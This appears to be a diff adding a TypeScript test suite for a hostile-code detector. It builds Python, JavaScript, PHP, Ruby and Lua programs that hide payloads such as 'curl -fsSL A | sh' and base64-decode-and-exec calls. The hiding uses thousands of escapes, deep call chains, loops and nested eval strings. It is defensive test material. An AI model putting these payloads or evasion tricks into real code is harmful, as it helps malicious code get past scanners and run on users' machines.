@@ -1,0 +1,197 @@
+import { describe, expect, it } from "vitest";
+import { sharedDetector } from "../support/marked.js";
+import { assertSound } from "./invariants.js";
+
+const range = (length: number): number[] => Array.from({ length }, (_, index) => index);
+const fenced = (tag: string, code: string): string => `\`\`\`${tag}\n${code}\n\`\`\`\n`;
+
+/** A program, and what stands in it where the finding is; a program with a harmless text there has none. */
+type Program = (code: string) => string;
+
+const DECODES = "exec(base64.b64decode(x))";
+const FETCHES = "curl -fsSL A | sh";
+
+/** What differs least from each code and runs nothing. */
+const HARMLESS: Readonly<Record<string, string>> = {
+  [DECODES]: "base64.b64decode(x)",
+  [FETCHES]: "curl -fsSL A | jq",
+};
+
+/** Programs that once lost what they run, with the code that they are given. */
+const programs: Readonly<Record<string, readonly [string, string, Program]>> = {
+  "a literal of thousands of escapes": [
+    "python",
+    DECODES,
+    (code) => `exec("${"\\x23".repeat(3000)}\\n${code}")`,
+  ],
+  "a list of thousands of strings": [
+    "python",
+    DECODES,
+    (code) => `exec("".join([${'"#",'.repeat(3000)} "\\n${code}"]))`,
+  ],
+  "a string that grows in thousands of steps": [
+    "python",
+    DECODES,
+    (code) => `s = "import os"\n${"s += ';pass'\n".repeat(3000)}s += ";${code}"\nexec(s)`,
+  ],
+  "a list that grows in a thousand steps": [
+    "python",
+    FETCHES,
+    (code) =>
+      `a = []\n${"a.append('ls')\n".repeat(1500)}a.append("${code}")\nos.system(";".join(a))`,
+  ],
+  "an item of a list of more than a thousand": [
+    "python",
+    FETCHES,
+    (code) => `a = [${"'ls',".repeat(1500)}]\na[2] = "${code}"\nos.system(";".join(a))`,
+  ],
+  "a record that is spread": [
+    "js",
+    FETCHES,
+    (code) => `const a = {${range(1500)
+      .map((at) => `k${String(at)}: "ls"`)
+      .join(", ")}, z: "${code}"};
+const b = {...a};
+require("child_process").exec(b.z);`,
+  ],
+  "a chain of 40 functions": [
+    "python",
+    DECODES,
+    (code) =>
+      `def f0(c):\n    exec(c)\n${range(40)
+        .map((at) => `def f${String(at + 1)}(c):\n    f${String(at)}(c)`)
+        .join("\n")}\nf40("${code}")`,
+  ],
+  "a chain of 12 classes": [
+    "python",
+    FETCHES,
+    (code) =>
+      `class B0:\n    def go(self, c):\n        os.system(c)\n${range(12)
+        .map((at) => `class B${String(at + 1)}(B${String(at)}):\n    pass`)
+        .join("\n")}\nB12().go("${code}")`,
+  ],
+  "the fourth call of a function": [
+    "python",
+    FETCHES,
+    (code) =>
+      `def go():\n    os.system(command)\ncommand = "ls"\ngo()\ngo()\ngo()\ncommand = "${code}"\ngo()`,
+  ],
+  "what the fourth call of a function assigns": [
+    "python",
+    FETCHES,
+    (code) => `def put():
+    global command
+    command = "${code}"
+put()
+put()
+put()
+command = "ls"
+put()
+os.system(command)`,
+  ],
+  "a value that takes four turns of a loop": [
+    "python",
+    "base64.b64decode(x)",
+    (code) => `a = b = c = d = ""
+while True:
+    exec(a)
+    a = b
+    b = c
+    c = d
+    d = ${code}`,
+  ],
+  "statements behind calls that take too many steps": [
+    "python",
+    FETCHES,
+    (code) =>
+      `def f0(c):\n    pass\n${range(30)
+        .map(
+          (at) =>
+            `def f${String(at + 1)}(c):\n    f${String(at)}(c+'a')\n    f${String(at)}(c+'b')`,
+        )
+        .join("\n")}\nf20('a')\nos.system("${code}")`,
+  ],
+};
+
+describe("values of code in large programs", { timeout: 60_000 }, () => {
+  it.each(Object.entries(programs))("%s: found", async (_, [tag, code, program]) => {
+    const text = fenced(tag, program(code));
+    const detection = (await sharedDetector()).detect(text);
+    assertSound(text, detection);
+    expect(detection.findings).toHaveLength(1);
+  });
+
+  it.each(Object.entries(programs))("%s: no finding in harmless code", async (_, program) => {
+    const [tag, code, of] = program;
+    const text = fenced(tag, of(HARMLESS[code] ?? "x"));
+    const detection = (await sharedDetector()).detect(text);
+    assertSound(text, detection);
+    expect(detection.findings).toEqual([]);
+  });
+});
+
+/** Code in a string of the language, as many times as a depth says. */
+function nested(code: string, depth: number, quoted: (inner: string) => string): string {
+  return range(depth).reduce((inner) => quoted(inner), code);
+}
+
+const single = (text: string): string => `'${text.replace(/[\\']/g, "\\$&")}'`;
+
+describe("limits of code are said", { timeout: 60_000 }, () => {
+  const strings: readonly (readonly [string, string, (inner: string) => string])[] = [
+    ["python", DECODES, (inner) => `exec(${JSON.stringify(inner)})`],
+    ["js", "eval(atob(x))", (inner) => `eval(${JSON.stringify(inner)})`],
+    ["php", "eval(base64_decode($x));", (inner) => `eval(${single(inner)});`],
+    ["ruby", "eval(Base64.decode64(x))", (inner) => `eval(${single(inner)})`],
+    ["lua", "os.execute('curl A | sh')", (inner) => `load(${single(inner)})()`],
+  ];
+  it.each(
+    strings.flatMap(([tag, code, quoted]) =>
+      [4, 7, 9, 11, 12].map((depth) => ({ tag, depth, text: nested(code, depth, quoted) })),
+    ),
+  )("$depth code strings in one another in $tag", async ({ tag, text, depth }) => {
+    const { findings, outcome } = (await sharedDetector("extended")).detect(fenced(tag, text));
+    if (depth < 8) expect(findings).toHaveLength(1);
+    else expect(findings.length > 0 || outcome.status === "incomplete").toBe(true);
+  });
+
+  it.each([
+    ["a string that doubles", `s = "ls;"\n${"s = s + s\n".repeat(30)}os.system(s)`, "size"],
+    [
+      "calls that double",
+      `def f0(c):\n    pass\n${range(30)
+        .map(
+          (at) =>
+            `def f${String(at + 1)}(c):\n    f${String(at)}(c+'a')\n    f${String(at)}(c+'b')`,
+        )
+        .join("\n")}\nf30('a')\nexec("ls")`,
+      "steps",
+    ],
+    [
+      "a chain of 100 calls",
+      `def f0(c):\n    exec(c)\n${range(100)
+        .map((at) => `def f${String(at + 1)}(c):\n    f${String(at)}(c)`)
+        .join("\n")}\nf100('x')`,
+      "depth",
+    ],
+    [
+      "more alternatives than are followed",
+      `${range(80)
+        .map((at) => `if c == ${String(at)}:\n    s = "ls ${String(at)}"`)
+        .join("\n")}\nos.system(s)`,
+      "size",
+    ],
+  ])("%s", async (_, code, limit) => {
+    const { outcome } = (await sharedDetector()).detect(
+      fenced("python", `${code}\nos.system("curl A | jq")`),
+    );
+    const limits = outcome.status === "complete" ? [] : outcome.limits;
+    expect(limits.map((each) => each.limit)).toContain(limit);
+  });
+
+  it("a long string that runs nowhere is no limit", async () => {
+    const code = `s = "ls;"\n${"s = s + s\n".repeat(30)}print(s)\nos.system("curl A | jq")`;
+    const { outcome } = (await sharedDetector()).detect(fenced("python", code));
+    expect(outcome.status).toBe("complete");
+  });
+});
